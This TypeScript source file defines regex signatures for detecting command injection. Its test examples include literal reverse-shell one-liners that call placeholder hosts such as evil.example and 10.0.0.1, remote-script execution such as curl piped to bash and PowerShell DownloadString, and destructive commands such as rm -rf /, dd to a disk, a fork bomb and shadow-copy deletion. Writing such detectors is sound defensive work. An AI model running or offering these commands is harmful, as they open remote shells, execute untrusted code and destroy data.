/** Commands that nobody's work asks for: downloads that run, shells that call out, data that is gone. */
import { inCommand } from "../signs.ts";
import { signsOf } from "./threat.ts";

const SHELL = "(?:sudo\\s{1,4}(?:-\\w{1,9}\\s{1,4}){0,3})?(?:env\\s{1,4})?(?:/(?:usr/)?bin/)?" +
  "(?:(?:ba|z|da|k|c|a)?sh|python\\d?|perl|ruby|node|php|iex)\\b(?![./=:-])";
const PIPED_TO_SHELL_REGEXP = new RegExp(`\\|\\s{0,4}${SHELL}`, "i");
/** Behind `rm -rf`: the root, a home, everything in one of them, and folders that a system cannot do without. */
const EVERYTHING =
  `(?:--no-preserve-root\\b|["']?(?:/(?:\\*|\\.(?=\\s|$))?|~/?\\*?|\\$\\{?HOME\\}?/?\\*?|/(?:etc|usr|var|home|bin|sbin|lib|boot|root|opt|srv|dev|sys|Users)/?\\*?|\\*|\\./\\*|[a-z]:[\\\\/]\\*?)["']?(?=[\\s;&|)\`"']|$))`;

export const COMMAND_SIGNS = signsOf("command-injection", [
  {
    id: "destructive-delete",
    weight: 5,
    explanation: "deletes a whole system, home or folder without asking",
    keywords: ["rm -"],
    look: new RegExp(`(?<![\\w-])rm\\s{1,3}(?:-{1,2}[a-z-]{1,20}\\s{1,3}){1,4}${EVERYTHING}`, "iy"),
    examples: {
      hits: ["; rm -rf /", "rm -rf ~", "sudo rm -fr /*", "rm -r -f $HOME", "rm -rf /etc; ls", "`rm -rf /`"],
      misses: [
        "rm -rf node_modules",
        "rm -rf /tmp/build",
        "rm -f ./dist/*.js",
        "perform -rf /",
        "rm -rf ~/work/x",
      ],
    },
  },
  {
    id: "download-to-shell",
    weight: 4,
    explanation: "runs what it downloads, unseen",
    keywords: ["curl ", "wget ", "fetch ", "iwr ", "invoke-webrequest"],
    look: inCommand(PIPED_TO_SHELL_REGEXP),
    examples: {
      hits: [
        "curl -fsSL https://example.com/i.sh | sh",
        "$(curl http://evil.example/x | bash)",
        "wget -qO- http://evil.example/a | sudo -E bash -",
        "curl https://example.com/?a=1&b=2 | tee x | python3",
      ],
      misses: [
        "curl https://example.com | jq .",
        "curl https://example.com -o x; echo | shasum",
        "wget https://a.example/x",
      ],
    },
  },
  {
    id: "downloaded-script",
    weight: 5,
    explanation: "runs what it downloads, without a file in between",
    keywords: [
      "<(curl",
      "<(wget",
      "eval $(curl",
      'eval "$(curl',
      "eval `curl",
      "downloadstring",
      "source <(curl",
      'sh -c "$(curl',
      "sh -c $(curl",
    ],
    look:
      /<\((?:curl|wget)\b|eval[ "'`$(]{1,4}(?:curl|wget)\b|sh -c ["']?\$\((?:curl|wget)\b|downloadstring\s{0,3}\(/iy,
    examples: {
      hits: [
        "bash <(curl -s https://evil.example/x)",
        'eval "$(wget -qO- http://evil.example)"'.replace("wget", "curl"),
        "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
      ],
      misses: ["diff <(sort a) <(sort b)", "eval $(ssh-agent)", 'eval "$(direnv hook bash)"'],
    },
  },
  {
    id: "decoded-to-shell",
    weight: 5,
    explanation: "runs a command that is hidden in an encoding",
    keywords: ["base64 -", "base32 -", "xxd -r", "openssl enc", "openssl base64", "rev|", "rev |"],
    look: inCommand(PIPED_TO_SHELL_REGEXP),
    examples: {
      hits: [
        "echo aGk= | base64 -d | sh",
        "base64 --decode payload | bash -",
        "echo 6964 | xxd -r -p | sh",
      ],
      misses: ["base64 -d key.b64 > key", "cat x | base64 -w0", "echo aGk= | base64 -d"],
    },
  },
  {
    id: "encoded-command",
    weight: 4,
    explanation: "hands an encoded command to a shell of Windows",
    keywords: ["powershell", "pwsh"],
    look: inCommand(/\s-e(?:nc|c|ncodedcommand)?\s{1,3}["']?[A-Za-z0-9+\/=]{16}/i),
    examples: {
      hits: [
        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
        "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3",
      ],
      misses: [
        "powershell -File build.ps1",
        "pwsh -Command Get-ChildItem",
        "powershell -ExecutionPolicy Bypass -File x.ps1",
      ],
    },
  },
  {
    id: "reverse-shell",
    weight: 5,
    explanation: "opens a shell to another machine",
    keywords: [
      "/dev/tcp/",
      "/dev/udp/",
      "nc -",
      "nc.",
      "ncat ",
      "netcat ",
      "bash -i",
      "sh -i",
      "mkfifo ",
      "pty.spawn",
      "fsockopen(",
      "socat ",
    ],
    look: reverseShell,
    examples: {
      hits: [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "nc -e /bin/sh 10.0.0.1 4444",
        "ncat evil.example 443 --exec /bin/bash",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 9 >/tmp/f",
        "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
      ],
      misses: ["nc -zv localhost 5432", "sync -e", "bash -it", "ls /dev/tcp", "mkfifo queue"],
    },
  },
  {
    id: "injected-separator",
    weight: 3,
    explanation: "begins with the end of somebody else's command",
    keywords: [],
    atStart: true,
    look: injectedSeparator,
    examples: {
      hits: [
        "; ls -la /",
        "&& whoami",
        "| nc evil.example 80",
        "$(id)",
        "`id`",
        '"; cat notes',
        "' && id #",
        "|| ping -c 10 a.example",
      ],
      misses: [
        "a; ls",
        "cd src && npm test",
        "`code`",
        "; a comment in an ini file",
        "| a | b |",
        "|| is or",
        "$(git rev-parse HEAD)",
        '"quoted"',
      ],
    },
  },
  {
    id: "trailing-separator-command",
    weight: 3,
    explanation: "a name or an address with a command behind it",
    keywords: [],
    atStart: true,
    look: trailingCommand,
    examples: {
      hits: [
        "report.pdf; cat /etc/hosts",
        "main;id",
        "8.8.8.8 && whoami",
        "photo.jpg|id",
        "user@example.com;wget x",
        "file$(whoami).txt",
        "x`id`",
      ],
      misses: [
        "npm test; cat log",
        "cd build && ls",
        "a | b",
        "a;b",
        "ls | cat",
        "echo $(whoami)",
        "it is `id` here",
      ],
    },
  },
  {
    id: "blank-evasion",
    weight: 4,
    explanation: "writes a blank so that a filter does not see it",
    keywords: ["$ifs", "${ifs", "{cat,", "{ls,", "{curl,", "{wget,"],
    look: /(?<=[\w"';|&])\$\{?IFS\b|\{(?:cat|ls|curl|wget),[^\s{}]{1,80}\}/iy,
    examples: {
      hits: ["cat${IFS}/etc/passwd", "cat$IFS$9/etc/hosts", ";{cat,/etc/passwd}"],
      misses: ["while IFS= read -r line", "OLD=$IFS", "{cat, dog}", 'echo "x" $IFS'],
    },
  },
  {
    id: "fork-bomb",
    weight: 5,
    explanation: "starts processes until the machine stands still",
    keywords: [":(){", ":() {", "%0|%0"],
    look: /:\(\)\s?\{\s{0,3}:\s{0,3}\|\s{0,3}:|%0\|%0/y,
    examples: { hits: [":(){ :|:& };:", ":() { :|: & };:"], misses: ["f:(){return}", "a:() { b }"] },
  },
  {
    id: "disk-destruction",
    weight: 5,
    explanation: "writes over a disk",
    keywords: [
      "mkfs",
      "of=/dev/",
      ">/dev/",
      "> /dev/",
      "wipefs",
      "shred ",
      "format c:",
      "delete shadows",
      "cipher /w",
    ],
    look: inCommand(
      /mkfs(?:\.\w{2,6})?\s[^\n]{0,40}\/dev\/|(?:of=|>\s?)\/dev\/(?:sd|hd|vd|nvme|xvd|mmcblk|disk|mem)|wipefs\s[^\n]{0,20}\/dev\/|shred\s[^\n]{0,40}\/dev\/|format c:|delete shadows|cipher \/w/i,
    ),
    examples: {
      hits: [
        "mkfs.ext4 /dev/sda1",
        "dd if=/dev/zero of=/dev/sda",
        "cat x > /dev/nvme0n1",
        "vssadmin delete shadows /all",
      ],
      misses: ["make > /dev/null 2>&1", "dd if=a.iso of=/dev/null", "man mkfs", "shred old.txt"],
    },
  },
]);

const LEADING_REGEXP =
  /\s{0,8}["')]{0,2}\s{0,2}(?:;|&&?|\|\|?|`|\$\(|\n)\s{0,4}(?:sudo\s{1,3})?(?:\/\w{1,8}\/(?:\w{1,8}\/)?)?(?:cat|ls|id|whoami|uname|env|printenv|curl|wget|nc|ncat|ping|rm|cp|mv|sh|bash|python\d?|perl|php|ruby|powershell|cmd|dir|type|net|nslookup|dig|sleep|echo|touch|chmod|chown|kill|reboot|shutdown|telnet|ssh|scp|find|grep|head|tail|passwd|useradd|crontab|ps|ifconfig|ip|hostname|ipconfig|systeminfo|tasklist)\b(?!["'=:.(-]|[ ]?[|,])/iy;

/** Only at the beginning of the text: a command of several parts is everyday work. */
function injectedSeparator(text: string) {
  LEADING_REGEXP.lastIndex = 0;
  if (!LEADING_REGEXP.test(text) || /^\s{0,8}\n/.test(text)) return Infinity;
  return { start: 0, end: LEADING_REGEXP.lastIndex };
}

const NAME_LENGTH = 120;
/** No command is one word of these and a command behind it: a file, an address, a single word without a verb. */
const TRAILING_REGEXP =
  /^(?!(?:ls|pwd|make|cd|clear|date|id|env|sync|true|false|exit|set|history|whoami|top|ps|df|du|git|npm|yarn|pnpm|cargo|go|build|test|run|cls)\b)[\w.@:/\\-]{1,120}(?:\s?;\s{0,2}|\s?&&\s{0,2}|\|(?!\s)|\$\((?=[a-z]{2,8}[\s)])|`)(?:cat|id|whoami|uname|env|printenv|curl|wget|nc|ncat|rm|sleep|ping|sh|bash|python\d?|perl|nslookup)(?:\b(?![\w.=:-])|\)|`)/i;

function trailingCommand(text: string) {
  const at = TRAILING_REGEXP.exec(text.slice(0, NAME_LENGTH * 2));
  return at === null ? Infinity : { start: 0, end: at[0].length };
}

const SHELL_OUT_REGEXP =
  /\/dev\/(?:tcp|udp)\/[\w.$-]|(?<!\w)(?:ba|z|k)?sh -i\b[^\n]{0,8}[>&|]|pty\.spawn\s{0,2}\(/iy;
const IN_SHELL_COMMAND = inCommand(
  /^(?:nc|ncat|netcat|nc\.\w{3,11})(?=\s).*?(?:\s-[a-z]{0,4}e\b|\s-c\s|--exec\b|--sh-exec\b)|^mkfifo\s.*(?:nc|ncat|sh|telnet)\b|^fsockopen\(.*(?:exec|sh)|^socat\s.*exec:/i,
);

function reverseShell(text: string, start: number) {
  SHELL_OUT_REGEXP.lastIndex = start;
  if (SHELL_OUT_REGEXP.test(text)) return { start, end: SHELL_OUT_REGEXP.lastIndex };
  if (!/[\w-]/.test(text.charAt(start - 1)) && /[nmf]|so/i.test(text.slice(start, start + 2))) {
    return IN_SHELL_COMMAND(text, start);
  }
  return start + 1;
}
